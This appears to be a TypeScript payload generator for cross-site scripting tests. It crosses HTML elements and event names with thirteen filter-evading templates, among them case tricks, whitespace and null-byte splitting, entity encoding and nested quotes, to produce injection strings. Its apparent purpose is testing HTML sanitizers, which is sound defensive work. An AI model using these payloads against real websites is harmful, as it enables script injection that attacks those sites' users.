import { crossInTurns, script } from './cross.ts';

const elements =
  'img svg body iframe video audio source track input button select textarea form details dialog'
    .concat(' marquee object embed math table a div style link template custom-element')
    .concat(' frameset')
    .split(' ');

const events =
  'load error click focus blur mouseover pointerenter toggle beforetoggle animationstart begin'
    .concat(' finish input submit scroll pageshow')
    .split(' ');

/** The same attribute as careless filters and careful parsers tell it apart. */
const ways: ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} on${event}="${script}">`,
  (element, event) => `<${element} src=x href=x on${event}=${script}>`,
  (element, event) => `<${element.toUpperCase()} SRC=x ON${event.toUpperCase()}='${script}'>`,
  (element, event) => `<${element}/src/on${event}=${script}//>`,
  (element, event) => `<${element}\n src=x\non${event}\n=\n${script}\n>`,
  (element, event) => `<${element}\tsrc=x\ton${event}\t=\t"${script}"`,
  (element, event) => `<${element} on${event}=&#97;lert&lpar;1&rpar;>`,
  (element, event) => `<${element} on${event}=\`${script}\`>`,
  (element, event) => `<<${element} on${event}=${script}<p>`,
  (element, event) => `<\0${element} \0on${event}="${script}">`,
  (element, event) => `<${element} x="><${element} on${event}=${script}>" on${event}=${script}>`,
  (element, event) => `<${element} autofocus tabindex=1 on${event}=${script}></${element}>`,
  (element, event) => `<${element}\u000Con${event}\u00A0=${script}>`,
];

/** Event handlers on elements, in every way of writing them. */
export const handlers = crossInTurns([elements, events, ways], (element, event, way) =>
  way(element, event),
);
